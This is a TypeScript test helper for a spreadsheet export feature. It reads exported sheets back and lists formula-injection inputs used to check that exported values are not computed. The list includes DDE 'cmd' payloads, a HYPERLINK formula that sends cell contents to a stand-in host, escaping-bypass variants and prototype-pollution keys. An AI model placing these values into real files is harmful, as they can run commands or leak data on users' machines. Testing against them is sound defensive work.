import { openTable } from "../../data/open-table.ts";

/** What a file has, as the reader of imports sees it: of each sheet its name and all of its rows with content. */
export async function readBack(bytes: Uint8Array): Promise<{ readonly name: string; readonly rows: string[][] }[]> {
  const file = await openTable(Buffer.from(bytes), "export");
  const sheets: { name: string; rows: string[][] }[] = [];
  for (const [at, { name }] of file.sheets.entries()) {
    const rows: string[][] = [];
    for await (const batch of file.rows(at)) rows.push(...batch.rows.map(({ cells }) => [...cells]));
    sheets.push({ name, rows });
  }
  return sheets;
}

/** What a spreadsheet would compute, were it not held back. */
export const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://example.org?x="&A1,"看")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1,1)",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  " =1+1",
  "\u{feff}=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1',
  "x;=1+1",
  "x,=1+1",
  "x\t=1+1",
  "constructor",
  "__proto__",
  "toString",
] as const;
